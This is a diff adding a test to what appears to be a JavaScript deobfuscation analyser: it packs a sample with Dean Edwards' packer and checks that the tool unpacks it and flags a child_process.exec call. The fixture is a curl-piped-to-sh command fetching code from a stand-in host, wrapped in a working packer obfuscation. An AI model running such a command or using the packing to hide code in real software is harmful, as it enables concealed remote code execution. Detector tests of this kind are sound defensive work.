@@ -134,6 +134,22 @@ function _0xT() { const _0xa = ['${obfRc4('child_process', 'k1')}', '${obfRc4('e
     expect(two.imports.map((i) => i.module)).toEqual(['d(0, 0)']);
   });
 
+  it("unpacks Dean Edwards' packer (base 62) for the eval it feeds, and leaves other IIFEs alone", () => {
+    // Pack like the packer does: every word becomes its index in base 62 in a keyword list.
+    const source = "require('child_process').exec('curl -s https://example.invalid/p | sh')";
+    const words = [...new Set(source.match(/\b\w+\b/g) ?? [])];
+    // Pad the list so that indexes past 35 use capital letters, as packed files of any size do.
+    const keys = [...Array.from({ length: 40 }, (_, i) => `unused${i}`), ...words];
+    const enc = (c: number): string => (c < 62 ? '' : enc(Math.floor(c / 62))) + ((c % 62) > 35 ? String.fromCharCode((c % 62) + 29) : (c % 62).toString(36));
+    const packed = source.replace(/\b\w+\b/g, (w) => enc(keys.indexOf(w))).replace(/'/g, "\\'");
+    const unpacker = "function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}";
+    const f = facts(`eval(${unpacker}('${packed}',62,${keys.length},'${keys.join('|')}'.split('|'),0,{}))`);
+    expect(f.decoded.map((d) => [d.steps, d.text])).toEqual([[['packer'], source]]);
+    expect(f.decoded[0]?.facts?.calls.map((c) => c.callee)).toContain('child_process.exec');
+    // Parameters not named p, a, c, k: an ordinary immediately invoked function, not unpacked.
+    expect(facts(`eval(function(x,y,z,w){return x}('1',62,1,'a'.split('|')))`).decoded).toEqual([]);
+  });
+
   it('records every entry of a string table and decodes its base64 entries', () => {
     const f = facts(NEW_STYLE);
     expect(f.metrics.largestStringArray).toBe(6);
